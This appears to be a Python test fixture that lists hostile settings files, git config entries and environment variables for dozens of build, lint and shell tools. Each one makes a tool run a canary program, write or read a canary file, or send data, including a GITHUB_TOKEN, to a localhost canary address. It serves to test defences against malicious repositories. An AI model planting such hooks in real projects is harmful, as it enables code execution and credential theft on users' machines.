"""Hostile trees and commands: settings files and variables that make programs run, write, send or print something else.
Each names the canary program, a canary address or a canary file. Lays out nothing."""

from __future__ import annotations

RUN, WRITE, READ = "@RUN@", "@WRITE@", "@READ@"  # a program that leaves a mark, a file to be made, a secret file
ADDRESS = "http://127.0.0.1:@PORT@/x"

FILES: dict[str, str] = {
    ".npmrc": f"registry={ADDRESS}/${{GITHUB_TOKEN}}/\n"
    f"script-shell={RUN}\n"
    f"node-options=--require={RUN}\n"
    f"logs-dir={WRITE}\n",
    ".yarnrc.yml": "yarnPath: ./evil.js\nplugins:\n  - ./evil.js\n",
    ".yarnrc": 'yarn-path "./evil.js"\n',
    ".pnpmfile.cjs": f'require("child_process").execFileSync("{RUN}")\n',
    "evil.js": f'require("child_process").execFileSync("{RUN}")\n',
    "package.json": f'{{"name": "x", "version": "1.0.0", "packageManager": "yarn@9.9.9", '
    f'"scripts": {{"test": "{RUN}", "version": "{RUN}"}}}}\n',
    "bunfig.toml": 'preload = ["./evil.js"]\n',
    "pyproject.toml": f"[build-system]\n"
    f"requires = []\n"
    f'build-backend = "evil"\n'
    f'backend-path = ["."]\n'
    f"[project]\n"
    f'name = "x"\n'
    f'version = "1"\n'
    f'[tool.ruff]\ncache-dir = "{WRITE}"\nfix = true\n[tool.mypy]\nplugins = ["evil"]\npython_executable = "{RUN}"\n'
    f"[tool.black]\n"
    f'extend-exclude = "x"\n'
    f"[tool.pytest.ini_options]\n"
    f'addopts = "-p evil"\n'
    f"[tool.uv]\n"
    f'index-url = "{ADDRESS}"\n',
    "setup.py": f'import subprocess; subprocess.run(["{RUN}"])\n',
    "setup.cfg": "[options]\nname = x\n[mypy]\nplugins = evil\n[flake8]\nrequire-plugins = evil\n",
    "evil.py": f'import subprocess; subprocess.run(["{RUN}"])\n',
    "conftest.py": f'import subprocess; subprocess.run(["{RUN}"])\n',
    "json.py": f'import subprocess; subprocess.run(["{RUN}"])\n',
    "sitecustomize.py": f'import subprocess; subprocess.run(["{RUN}"])\n',
    "ruff.toml": f'cache-dir = "{WRITE}"\nfix = true\n',
    "mypy.ini": f"[mypy]\nplugins = ./evil.py\npython_executable = {RUN}\n",
    ".pylintrc": "[MASTER]\nload-plugins=evil\ninit-hook='import evil'\n",
    ".flake8": "[flake8]\nrequire-plugins = evil\n",
    "tox.ini": f"[tox]\n[testenv]\ncommands = {RUN}\n",
    ".python-version": "evil\n",
    ".tool-versions": "python system\nnodejs path:./x\n",
    ".mise.toml": f'[hooks]\nenter = "{RUN}"\n[env]\nPATH = "."\n',
    "Pipfile": "[packages]\n",
    ".cargo/config.toml": f"[build]\n"
    f'rustc = "{RUN}"\n'
    f'rustc-wrapper = "{RUN}"\n'
    f"[alias]\n"
    f'tree = "run"\n'
    f"[source.crates-io]\n"
    f'replace-with = "x"\n'
    f"[source.x]\n"
    f'registry = "{ADDRESS}"\n',
    "rust-toolchain.toml": '[toolchain]\npath = "./toolchain"\n',
    "Cargo.toml": f"[package]\n"
    f'name = "x"\n'
    f'version = "0.1.0"\n'
    f'build = "build.rs"\n'
    f"[dependencies]\n"
    f'y = {{ git = "{ADDRESS}" }}\n',
    "go.mod": "module x\ngo 1.99\ntoolchain go1.99.9\nrequire evil.example/y v1.0.0\n",
    "go.work": "go 1.20\nuse ./x\n",
    "Gemfile": f"system('{RUN}')\n",
    ".bundle/config": f'BUNDLE_PATH: "{WRITE}"\nBUNDLE_GEMFILE: "Gemfile"\n',
    ".gemspec": f"system('{RUN}')\n",
    "Rakefile": f"system('{RUN}')\n",
    ".irbrc": f"system('{RUN}')\n",
    ".rubocop.yml": "require: ./evil.rb\n",
    "composer.json": f'{{"scripts": {{"pre-command-run": "{RUN}"}}, '
    f'"repositories": [{{"type": "composer", "url": "{ADDRESS}"}}]}}\n',
    "Makefile": f"$(shell {RUN})\nall:\n\t{RUN}\n",
    "justfile": f"x := `{RUN}`\ndefault:\n  {RUN}\n",
    "Taskfile.yml": f'version: "3"\nvars:\n  X:\n    sh: {RUN}\n',
    "build.gradle": f'"{RUN}".execute()\n',
    ".mvn/jvm.config": "-javaagent:evil.jar\n",
    ".mvn/maven.config": "-s evil.xml\n",
    "pom.xml": "<project><modelVersion>4.0.0</modelVersion><groupId>x</groupId><artifactId>x</artifactId>"
    "<version>1</version></project>\n",
    "CMakeLists.txt": f"execute_process(COMMAND {RUN})\n",
    ".clang-tidy": "Checks: '*'\n",
    ".clang-format": "BasedOnStyle: LLVM\n",
    "ansible.cfg": f"[defaults]\ncallback_plugins = .\nlibrary = .\ninventory = ./hosts.sh\nlog_path = {WRITE}\n",
    "main.tf": f'data "external" "x" {{\n'
    f'  program = ["{RUN}"]\n'
    f"}}\n"
    f"terraform {{\n"
    f'  backend "http" {{\n'
    f'    address = "{ADDRESS}"\n'
    f"  }}\n"
    f"}}\n",
    ".terraformrc": f'provider_installation {{\n  network_mirror {{\n    url = "{ADDRESS}"\n  }}\n}}\n',
    "docker-compose.yml": 'services:\n  a:\n    image: "x${GITHUB_TOKEN}"\n    env_file: .env\n',
    ".env": "SECRET=CANARY-SECRET\n",
    "Dockerfile": "FROM scratch\n",
    "supervisord.conf": f"[supervisorctl]\nserverurl={ADDRESS}\n[ctlplugin:x]\nsupervisor.ctl_factory = evil:x\n",
    ".lfsconfig": f"[lfs]\n\turl = {ADDRESS}\n",
    ".gitattributes": "* diff=evil filter=evil\n",
    ".ugrep": f"filter=*:{RUN}\n",
    ".ackrc": f"--pager={RUN}\n",
    ".ripgreprc": f"--pre={RUN}\n",
    ".ctags": f"--options={READ}\n",
    ".gdbinit": f"shell {RUN}\n",
    ".lldbinit": f"platform shell {RUN}\n",
    ".Rprofile": f'system("{RUN}")\n',
    ".octaverc": f'system("{RUN}")\n',
    ".exrc": f"!{RUN}\n",
    ".vimrc": f":!{RUN}\n",
    ".dir-locals.el": f'((nil . ((eval . (shell-command "{RUN}")))))\n',
    ".hg/hgrc": f"[extensions]\nx = ./evil.py\n[alias]\nstatus = !{RUN}\n",
    ".shellcheckrc": "external-sources=true\n",
    ".yamllint": f"extends: {READ}\n",
    ".isort.cfg": "[settings]\nskip_gitignore = true\n",
    ".pep8": "[pep8]\nin_place = true\n",
    "typos.toml": "[default]\ncheck-filename = true\n",
    "biome.json": f'{{"extends": ["{READ}"]}}\n',
    ".justfile": f"import '{READ}'\n",
    "rustfmt.toml": 'emit_mode = "Files"\n',
    "taplo.toml": f'include = ["{READ}"]\n',
    ".bandit": f"[bandit]\noutput = {WRITE}\nconfigfile = {READ}\n",
    "ava.config.cjs": f'require("child_process").execFileSync("{RUN}")\n',
    "nyc.config.js": f'require("child_process").execFileSync("{RUN}")\n',
    "typedoc.config.cjs": f'require("child_process").execFileSync("{RUN}")\n',
    ".markdownlint-cli2.cjs": f'require("child_process").execFileSync("{RUN}")\n',
    "stylelint.config.js": f'require("child_process").execFileSync("{RUN}")\n',
    "jest.config.js": f'require("child_process").execFileSync("{RUN}")\n',
    "vite.config.js": f'require("child_process").execFileSync("{RUN}")\n',
    "webpack.config.js": f'require("child_process").execFileSync("{RUN}")\n',
    "rollup.config.js": f'require("child_process").execFileSync("{RUN}")\n',
    "babel.config.js": f'require("child_process").execFileSync("{RUN}")\n',
    "commitlint.config.js": f'require("child_process").execFileSync("{RUN}")\n',
    "node_modules/jest/package.json": '{"name": "jest", "version": "1.0.0"}\n',
    "node_modules/jest/bin/jest.js": f'require("child_process").execFileSync("{RUN}")\n',
    "node_modules/webpack-cli/package.json": '{"name": "webpack-cli", "version": "1.0.0"}\n',
    "node_modules/webpack-cli/bin/cli.js": f'require("child_process").execFileSync("{RUN}")\n',
    "noxfile.py": f'import subprocess; subprocess.run(["{RUN}"])\n',
    "conf.py": f'import subprocess; subprocess.run(["{RUN}"])\n',
    "gunicorn.conf.py": f'import subprocess; subprocess.run(["{RUN}"])\n',
    "SConstruct": f'import subprocess; subprocess.run(["{RUN}"])\n',
    ".perltidyrc": f"-b -o={WRITE}\n",
    ".perlcriticrc": "include = x\n",
    ".tidyrc": f"output-file: {WRITE}\n",
    ".curlrc": f"output = {WRITE}\nurl = {ADDRESS}\n",
    ".wgetrc": f"output_document = {WRITE}\n",
    "nix.conf": f"plugin-files = {RUN}\n",
    "mise.toml": f'[hooks]\nenter = "{RUN}"\n',
    "Procfile": f"web: {RUN}\n",
    "clickhouse-client.xml": f"<config><host>127.0.0.1</host><pager>{RUN}</pager></config>\n",
    "tsconfig.json": '{"extends": "./evil.json", "compilerOptions": {"plugins": [{"name": "evil"}]}}\n',
    ".eslintrc.js": f'require("child_process").execFileSync("{RUN}")\n',
    "eslint.config.js": f'require("child_process").execFileSync("{RUN}")\n',
    ".prettierrc.js": f'require("child_process").execFileSync("{RUN}")\n',
    "deno.json": '{"tasks": {"x": "y"}, "imports": {"a": "./evil.js"}}\n',
    "mix.exs": f'System.cmd("{RUN}", [])\n',
    "rebar.config": f'{{pre_hooks, [{{compile, "{RUN}"}}]}}.\n',
    "Vagrantfile": f"system('{RUN}')\n",
    "Brewfile": f"system('{RUN}')\n",
    "Jenkinsfile": f'sh "{RUN}"\n',
}
PROGRAMS = (
    ".venv/bin/python",
    ".venv/bin/python3",
    "node_modules/.bin/tsc",
    "hosts.sh",
    "toolchain/bin/rustc",
    "git",
    "less",
)
# What git finds in its own folder: `git config` lines.
REPOSITORY = {
    "core.fsmonitor": RUN,
    "core.pager": RUN,
    "diff.external": RUN,
    "diff.evil.textconv": RUN,
    "filter.evil.clean": RUN,
    "core.hooksPath": "hooks",
    "alias.st": f"!{RUN}",
    "core.sshCommand": RUN,
    "gpg.program": RUN,
    "credential.helper": RUN,
}
VARIABLES: dict[str, str] = {
    **dict.fromkeys(
        """PAGER GIT_PAGER MANPAGER BAT_PAGER SYSTEMD_PAGER GH_PAGER AWS_PAGER EDITOR VISUAL BROWSER GIT_EXTERNAL_DIFF
        GIT_SSH GIT_SSH_COMMAND GIT_ASKPASS SSH_ASKPASS RIPGREP_CONFIG_PATH LESSOPEN LESSKEYIN LUA_INIT LUA_INIT_5_4
        PYTHONSTARTUP PYTHONHOME PERL5DB RUBYOPT NODE_OPTIONS JAVA_TOOL_OPTIONS RUSTC RUSTC_WRAPPER CC MAKEFLAGS
        PYENV_HOOK_PATH CLOUDSDK_PYTHON KUBECTL_EXTERNAL_DIFF DOCKER_CONFIG APT_CONFIG GROFF_COMMAND_PREFIX ZIPOPT
        TAR_OPTIONS GZIP XZ_OPT RSYNC_RSH BASH_ENV ENV PROMPT_COMMAND PS4 READNULLCMD""".split(),
        RUN,
    ),
    **dict.fromkeys("FFREPORT LESS SSLKEYLOGFILE MALLOC_TRACE npm_config_logs_dir HISTFILE".split(), WRITE),
    **dict.fromkeys(
        """HTTP_PROXY https_proxy ALL_PROXY npm_config_registry PIP_INDEX_URL GOPROXY DOCKER_HOST GH_HOST
        KUBECONFIG AWS_ENDPOINT_URL AWS_CONTAINER_CREDENTIALS_FULL_URI""".split(),
        ADDRESS,
    ),
    **dict.fromkeys("WORDLIST BC_ENV_ARGS RESOLV_HOST_CONF HOSTALIASES MAGIC LOCPATH TERMINFO".split(), READ),
    "LD_PRELOAD": "@HERE@/evil.so",
    "BAT_OPTS": f"--paging=always --pager={RUN}",
    "GREP": RUN,
    "SHELLCHECK_OPTS": "-x",
}
